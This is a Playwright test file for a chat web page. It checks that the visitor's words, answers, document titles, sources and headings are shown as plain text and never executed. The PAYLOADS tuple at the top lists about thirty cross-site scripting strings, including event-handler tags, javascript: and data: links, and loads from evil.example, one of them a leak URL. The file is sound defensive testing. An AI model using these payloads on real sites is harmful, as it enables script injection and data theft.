"""Hostile text through every door of the chat page: the visitor's words, answers, titles, sources, documents, names.

No script runs, no dialog opens, nothing is fetched from anywhere but the server, and the text is shown as it is.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from browser.chromium import chromium, visiting
from browser.shop_server import Shelf, open_shop
from chatwright.messages import DocumentText

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(2)>",
    "<svg onload=ran(3)>",
    "<svg><script href='data:text/javascript,ran(4)'></script></svg>",
    "<iframe srcdoc='<script>parent.ran(5)</script>'></iframe>",
    "<details open ontoggle=ran(6)>x</details>",
    "<video><source onerror=ran(7)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(8)></style></mglyph></table></mtext></math>",
    "<a href='javascript:ran(9)'>click</a>",
    "[click](javascript:ran(10))",
    "[click](JaVaScRiPt:ran(11))",
    "[click](java&#x09;script:ran(12))",
    "[click](data:text/html,<script>ran(13)</script>)",
    "[click](vbscript:ran(14))",
    "[click](javascript:ran`15`)",
    "[click](JAVASCRIPT:document.body.append`15`)",
    "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDE1KTwvc2NyaXB0Pg==)",
    "[click](blob:null/15) [click](file:///etc/passwd) [click](//evil.example/15) [click](/chat/shop)",
    "![x](https://evil.example/leak?q=15)",
    '[x](https://evil.example/16 "onmouseover=ran(16)")',
    "**<img src=x onerror=ran(17)>**",
    "`<img src=x onerror=ran(18)>`",
    "```\n</code></pre><img src=x onerror=ran(19)>\n```",
    "- <img src=x onerror=ran(20)>",
    "<style>@import 'https://evil.example/21';</style>",
    "<link rel=stylesheet href=https://evil.example/22>",
    "<base href=https://evil.example/><form action=https://evil.example/23><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/24'>",
    "<input autofocus onfocus=ran(25)>",
    "Column: <img src=x onerror=ran(26)>; Other: <script>ran(26)</script>",
    "</textarea></title></style></script><img src=x onerror=ran(27)>",
    "<x onclick=ran(28) tabindex=1 id=x style=position:fixed;inset:0>x</x>",
    "{{constructor.constructor('ran(29)')()}}${ran(29)}",
    "\u202e<img src=x onerror=ran(30)>\u2066 [1] [99] [click](mailto:x@example.com?body=<script>ran(30)</script>)",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as opened:
        yield opened


def hostile_shelf() -> Shelf:
    """One document a payload: its title, source, heading and text are the payload, and so is the answer."""
    named = {f"payload-{number:02}": payload for number, payload in enumerate(PAYLOADS)}
    documents = {
        name: DocumentText(
            source=f"{name}/{text}.md", title=text, text=f"{text}\n\n{text} end", headings=((0, 1, text),)
        )
        for name, text in named.items()
    }
    return Shelf(documents=documents, quotes={name: f"{text} end" for name, text in named.items()})


def test_no_text_becomes_more_than_text(browser: Browser) -> None:
    title = "Shop <img src=x onerror=ran('title')>"
    with open_shop(hostile_shelf(), title=title) as shop, visiting(browser, shop.url) as visit:
        expect(visit.page.get_by_role("heading", level=1)).to_have_text(title)
        for number, payload in enumerate(PAYLOADS):
            answer = visit.ask(f"payload-{number:02} {payload}")
            answer.locator(".chip").click()
            expect(visit.page.locator(".panel mark").first).to_be_visible()
            assert visit.page.locator(".panel mark").all_text_contents() == [
                line for line in f"{payload} end".split("\n") if line
            ]
            assert visit.page.locator(".panel h2").text_content() == payload
            visit.page.keyboard.press("Escape")
            assert visit.page.locator(".message.user .text").last.text_content() == f"payload-{number:02} {payload}"
        assert_harmless(visit.page.locator("chatwright-chat").evaluate(FOUND))
        visit.page.reload()
        expect(visit.answers).to_have_count(len(PAYLOADS))
        assert_harmless(visit.page.locator("chatwright-chat").evaluate(FOUND))
        assert visit.ran() == []


# What could act: elements that we never make, listeners in attributes, and links' targets.
FOUND = """(chat) => {
  const all = [...chat.shadowRoot.querySelectorAll("*")];
  const bad = "script, img, iframe, object, embed, link, style, base, meta, video, audio, input, math, form[action]";
  return {
    elements: all.filter((one) => one.matches(bad)).map((one) => one.outerHTML),
    listeners: all.flatMap((one) => one.getAttributeNames()).filter((name) => /^(on|style$|srcdoc$)/.test(name)),
    schemes: [...new Set(all.filter((one) => one.href).map((one) => one.protocol))].sort(),
    unguarded: all.filter((one) => one.href && !/noopener noreferrer/.test(one.rel)).length,
  };
}"""


def assert_harmless(found: dict[str, object]) -> None:
    assert found == {"elements": [], "listeners": ["style"], "schemes": ["https:", "mailto:"], "unguarded": 0}


def test_links_to_pages_and_mail_work(browser: Browser) -> None:
    text = "See https://example.com/a?b=1. Or [write](mailto:help@example.com) to help@example.com, **now**."
    shelf = Shelf({"links": DocumentText(source="links.md", title="Links", text=text)}, {"links": text})
    with open_shop(shelf) as shop, visiting(browser, shop.url) as visit:
        links = visit.ask("links?").locator(".text a")
        targets = links.evaluate_all("(all) => all.map((one) => one.href)")
        assert targets == ["https://example.com/a?b=1", "mailto:help@example.com", "mailto:help@example.com"]
        assert visit.answers.first.locator("strong").text_content() == "now"


@pytest.mark.parametrize(
    "text",
    ["[" * 4000, "**" * 2000, "`" * 4001, "a@" * 2000, "1. " * 1300, "key: " * 800, "x" * 4000, "https://" * 500],
)
def test_no_text_holds_the_page_up(browser: Browser, text: str) -> None:
    shelf = Shelf({"long": DocumentText(source="long.md", title="Long", text=text)}, {"long": text})
    with open_shop(shelf) as shop, visiting(browser, shop.url) as visit:
        visit.ask("long?")
        assert visit.page.locator(".log").evaluate("(log) => log.scrollWidth - log.clientWidth") <= 0
